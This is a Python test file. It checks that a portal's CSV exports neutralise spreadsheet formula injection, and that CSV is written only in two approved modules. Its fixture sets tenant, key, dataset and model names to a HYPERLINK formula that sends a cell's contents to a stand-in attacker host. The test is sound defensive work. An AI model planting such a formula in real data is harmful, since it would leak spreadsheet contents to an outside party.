"""Every table that the portal hands out: a spreadsheet that opens it runs nothing of what is in it."""

import csv
import io
import re
from pathlib import Path

import pytest
from sqlalchemy import update

from core.db import operator_session
from core.models.api_keys import ApiKey
from core.models.datasets import Dataset
from core.models.models import Model
from core.models.tenants import Tenant
from core.spreadsheets import inert
from tests.test_routes import calls
from tests.world import build_world

ROOT = Path(__file__).parents[2]
FORMULA = '=HYPERLINK("https://attacker.example/?"&A1)'
NUMBER = re.compile(r"[+-]?\d[\d.,]*\Z")
# What tenants and staff choose themselves.
CHOSEN = (
    (Tenant, "name"),
    (ApiKey, "name"),
    (Dataset, "name"),
    (Model, "name"),
)


@pytest.fixture
def world(admin):
    """One of everything, whose names are formulas."""
    world = build_world(admin.scope)
    with operator_session("test") as session:
        for cls, column in CHOSEN:
            session.execute(update(cls).values({column: FORMULA}))
        session.commit()
    return world


def tables(portal, client, world) -> dict[str, str]:
    """The answers in CSV to everything that can be read, by path."""
    found = {}
    for method, path, _ in calls(portal, world.arguments):
        if method == "GET":
            response = client.get(path)
            if response.mimetype == "text/csv":
                found[path] = response.get_data(as_text=True)
    return found


def runs(cell: str) -> bool:
    return inert(cell) != cell and not NUMBER.match(cell)


def test_no_export_of_a_tenant_or_of_the_operator_holds_a_formula(portal, admin, staff, world):
    found = tables(portal, admin.client, world) | tables(portal, staff().client, world)
    assert len(found) >= 10
    assert any(f"'{FORMULA}" in cell for cell in cells(found.values()))
    for path, text in found.items():
        assert [cell for cell in cells([text]) if runs(cell)] == [], path


def cells(texts) -> list[str]:
    return [cell for text in texts for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_csv_is_written_in_places_that_make_cells_inert_only():
    packages = ("billing", "core", "inference", "portal", "training")
    writers = {
        str(path.relative_to(ROOT))
        for package in packages
        for path in (ROOT / package).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)|write_csv", path.read_text(encoding="utf-8"))
    }
    assert writers == {"billing/csv_export.py", "training/data/export.py"}
